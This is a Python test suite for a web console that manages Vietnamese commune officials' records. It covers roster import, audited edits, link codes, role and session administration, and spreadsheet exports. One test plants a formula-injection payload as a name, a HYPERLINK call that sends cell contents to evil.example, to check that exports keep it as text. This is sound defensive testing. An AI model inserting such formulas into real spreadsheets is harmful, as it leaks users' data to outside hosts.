"""What a coordinator and an admin do in the console, over HTTP as a browser would: import a
roster after its check, edit a record (audited; a bad value changes nothing), issue link codes
in bulk, export a table (text stays text), grant and revoke roles, read the audit log, and end
another browser's session."""

from __future__ import annotations

import io
from typing import Any

import aiohttp
import openpyxl
from sqlalchemy import select

from storage.db import create_engine, session_factory
from storage.models import AuditEntry, LinkCode, Official, Role, Unit
from tests.console.conftest import (
    ADMIN,
    COORDINATOR,
    HOME,
    OTHER,
    Served,
    csrf_in,
    own_console,
    sign_in,
)


async def _rows(served: Served, statement: Any) -> list[Any]:
    engine = create_engine(served.database_url)
    async with session_factory(engine)() as session:
        found = list(await session.scalars(statement))
    await engine.dispose()
    return found


async def _post(client, served, path, data, **kwargs) -> tuple[int, str, aiohttp.ClientResponse]:
    async with client.post(
        served.base_url + path, data=data, headers={"Origin": served.base_url}, **kwargs
    ) as response:
        return response.status, (await response.read()).decode(errors="replace"), response


def _workbook(*rows: list[object]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Mã CB", "Họ tên", "Ngày sinh", "Giới tính", "Mã đơn vị", "Chức danh"])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


async def _upload(client, served, csrf: str, content: bytes, name: str) -> tuple[int, str, str]:
    form = aiohttp.FormData()
    form.add_field("csrf", csrf)
    form.add_field("file", content, filename=name)
    async with client.post(
        served.base_url + "/console/rosters", data=form, headers={"Origin": served.base_url}
    ) as response:
        return response.status, await response.text(), str(response.url)


async def test_a_roster_is_checked_then_imported_on_confirmation(served, client):
    csrf = await sign_in(served, client, COORDINATOR)
    good = _workbook(["SD-777", "Mai Văn Nhập", "02/02/1992", "Nam", HOME, "Phó Chủ tịch UBND"])
    status, page, url = await _upload(client, served, csrf, good, "bo_sung.xlsx")
    assert status == 200 and "1 sẽ thêm mới" in page
    assert await _rows(served, select(Official).where(Official.code == "SD-777")) == []

    async with client.get(url, params={"export": "counts"}) as response:  # the check exports
        sheet = openpyxl.load_workbook(io.BytesIO(await response.read())).active
        assert [c.value for c in sheet[3]] == [1, 0, 0, 0]

    status, page, _response = await _post(
        client, served, url[len(served.base_url) :], {"csrf": csrf, "action": "import"}
    )
    assert status == 200 and "đã nhập" in page.lower()
    assert [
        o.full_name for o in await _rows(served, select(Official).where(Official.code == "SD-777"))
    ] == ["Mai Văn Nhập"]
    status, page, _response = await _post(
        client, served, url[len(served.base_url) :], {"csrf": csrf, "action": "import"}
    )
    assert status == 404  # imported once; the file is gone
    async with client.get(served.base_url + "/console/rosters") as response:
        history = await response.text()
    assert "bo_sung.xlsx" in history and "đã nhập" in history


async def test_a_roster_naming_another_commune_is_refused_whole(served, client):
    csrf = await sign_in(served, client, COORDINATOR)
    outside = _workbook(
        ["TY-778", "Lò Văn Ngoài", "02/02/1992", "Nam", "07616", "Phó Chủ tịch UBND"]
    )
    _status, page, _url = await _upload(client, served, csrf, outside, "ngoai.xlsx")
    assert "bị từ chối" in page
    assert 'id="import"' not in page
    assert await _rows(served, select(Official).where(Official.code == "TY-778")) == []


async def test_a_record_edit_is_audited_and_a_bad_value_changes_nothing(served, client):
    csrf = await sign_in(served, client, COORDINATOR)
    (official,) = await _rows(served, select(Official).where(Official.code == "DEMO-0005"))
    path = f"/console/officials/{official.id}"
    async with client.get(served.base_url + path) as response:
        page = await response.text()
    fields = {
        "full_name": official.full_name,
        "phone": "0912 345 678",
        "birth_date": "05/04/1989",
        "appointed_on": "",
        "general_education": "upper_secondary",
        "professional_level": "university",
        "political_theory": "intermediate",
        "state_management": "",
        "party_member": "yes",
    }
    status, page, _r = await _post(
        client, served, path, {**fields, "csrf": csrf, "birth_date": "31/02/1989"}
    )
    assert status == 400 and "Ngày sinh: hãy ghi một ngày đã qua" in page
    (unchanged,) = await _rows(served, select(Official).where(Official.id == official.id))
    assert unchanged.political_theory == official.political_theory

    status, page, _r = await _post(client, served, path, {**fields, "csrf": csrf})
    assert status == 200 and "Đã lưu." in page
    assert "Lý luận chính trị: cần trung cấp" not in page  # the card reads the new level
    (entry,) = await _rows(
        served,
        select(AuditEntry).where(
            AuditEntry.action == "official.edit", AuditEntry.target == "DEMO-0005"
        ),
    )
    assert entry.actor == f"console:{COORDINATOR}"
    assert entry.detail["changed"]["political_theory"] == ["none", "intermediate"]
    assert entry.detail["changed"]["phone"] == "changed"
    assert "912" not in str(entry.detail)  # no phone number outside the record


async def test_link_codes_for_the_unlinked_officials_shown(served, client):
    csrf = await sign_in(served, client, COORDINATOR)
    (unit,) = await _rows(served, select(Unit).where(Unit.code == HOME))
    status, _body, response = await _post(
        client,
        served,
        "/console/officials/link-codes",
        {"csrf": csrf, "unit": str(unit.id), "format": "xlsx"},
    )
    assert status == 200 and response.content_type.endswith("spreadsheetml.sheet")
    officials = await _rows(served, select(Official.id).where(Official.unit_id == unit.id))
    codes = await _rows(
        served,
        select(LinkCode).where(LinkCode.official_id.in_(officials), LinkCode.used_at.is_(None)),
    )
    assert len({code.official_id for code in codes}) == len(officials)
    (entry,) = await _rows(served, select(AuditEntry).where(AuditEntry.action == "link_code.issue"))
    assert entry.detail["count"] == len(officials) and entry.actor == f"console:{COORDINATOR}"


async def test_a_name_that_looks_like_a_formula_exports_as_text(served, client):
    csrf = await sign_in(served, client, ADMIN)
    (official,) = await _rows(served, select(Official).where(Official.code == "DEMO-0006"))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    status, _page, _r = await _post(
        client,
        served,
        f"/console/officials/{official.id}",
        {
            "csrf": csrf,
            "full_name": evil,
            "birth_date": official.birth_date.strftime("%d/%m/%Y"),
            "phone": "",
            "appointed_on": "",
            "general_education": "",
            "professional_level": "",
            "political_theory": "",
            "state_management": "",
            "party_member": "",
        },
    )
    assert status == 200
    async with client.get(
        served.base_url + "/console/officials", params={"q": "hyperlink", "export": "officials"}
    ) as response:
        sheet = openpyxl.load_workbook(io.BytesIO(await response.read())).active
    cell = sheet.cell(3, 1)
    assert cell.value == evil and cell.data_type == "s"


async def test_an_admin_grants_and_revokes_a_role_and_ends_a_session(served, client):
    csrf = await sign_in(served, client, ADMIN)
    status, page, _r = await _post(
        client,
        served,
        "/console/admin/roles",
        {"csrf": csrf, "official": "DEMO-0020", "kind": "coordinator", "unit": "07616"},
    )
    assert status == 200 and "và mọi đơn vị trực thuộc" in page
    (role,) = await _rows(served, select(Role).join(Official).where(Official.code == "DEMO-0020"))
    status, page, _r = await _post(
        client, served, f"/console/admin/roles/{role.id}/revoke", {"csrf": csrf}
    )
    assert status == 200
    assert (
        await _rows(served, select(Role).join(Official).where(Official.code == "DEMO-0020")) == []
    )

    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as theirs:
        await sign_in(served, theirs, OTHER)
        async with client.get(served.base_url + "/console/admin/sessions") as response:
            page = await response.text()
        assert f"({OTHER})" in page and "Xã Tây Yên Tử" in page  # their scope, by name
        session_id = (
            page.split(f"({OTHER})", 1)[1].split("/console/admin/sessions/", 1)[1].split("/", 1)[0]
        )
        status, page, _r = await _post(
            client, served, f"/console/admin/sessions/{session_id}/revoke", {"csrf": csrf}
        )
        assert status == 200
        async with theirs.get(served.base_url + "/console", allow_redirects=False) as response:
            assert response.status == 303  # signed out by the admin

    async with client.get(
        served.base_url + "/console/admin/audit", params={"action": "role."}
    ) as response:
        entries = (await response.text()).split('id="audit"', 1)[1]
    assert "role.grant" in entries and "role.revoke" in entries
    assert "console.signin" not in entries


async def test_a_coordinator_gets_no_admin_page_and_the_language_switches(served, client):
    csrf = await sign_in(served, client, COORDINATOR)
    async with client.get(served.base_url + "/console/admin/roles") as response:
        assert response.status == 404
    status, page, _r = await _post(
        client,
        served,
        "/console/language",
        {"csrf": csrf, "language": "en", "back": "/console/officials"},
    )
    assert status == 200 and "<h1>Staff</h1>" in page and "Sign out" in page
    assert csrf_in(page) == csrf


async def test_the_dashboard_compares_two_dates_and_exports_each_table(served, client):
    await sign_in(served, client, COORDINATOR)
    (unit,) = await _rows(served, select(Unit).where(Unit.code == HOME))
    query = {"unit": str(unit.id), "compare": "01/01/2025"}
    async with client.get(served.base_url + "/console", params=query) as response:
        page = await response.text()
    assert "ngày 01/01/2025" in page and 'id="levels"' in page and 'id="due"' in page
    async with client.get(
        served.base_url + "/console", params={**query, "export": "levels"}
    ) as response:
        sheet = openpyxl.load_workbook(io.BytesIO(await response.read())).active
    assert [c.value for c in sheet[2]] == ["Tiêu chuẩn", "Trình độ", "Số người", "01/01/2025"]
    assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=3) for cell in row)
    async with client.get(
        served.base_url + "/console", params={**query, "export": "report"}
    ) as response:
        book = openpyxl.load_workbook(io.BytesIO(await response.read()))
    assert "Xã Sơn Động" in book.sheetnames
    async with client.get(served.base_url + "/console", params={"on": "31/02/2025"}) as response:
        assert "Hãy viết ngày theo dạng dd/mm/yyyy" in await response.text()


async def test_slips_with_qr_codes_when_the_bot_is_known(served):
    """With the bot's username configured, the unlinked officials' codes come as printable
    slips (the PDF `canbo link-code issue --pdf` writes), each QR code a t.me deep link."""
    async with own_console(served, bot_username="canbo_demo_bot") as (browser, origin):
        token = (await served.link(COORDINATOR)).split("token=", 1)[1]
        signed = await browser.post("/console/signin", data={"token": token}, headers=origin)
        csrf = csrf_in(await signed.text())
        page = await (await browser.get("/console/officials")).text()
        assert "Phiếu có mã QR (PDF)" in page
        response = await browser.post(
            "/console/officials/link-codes",
            data={"csrf": csrf, "q": "DEMO-0003", "format": "pdf"},
            headers=origin,
        )
        assert response.status == 200 and response.content_type == "application/pdf"
        assert (await response.read()).startswith(b"%PDF")
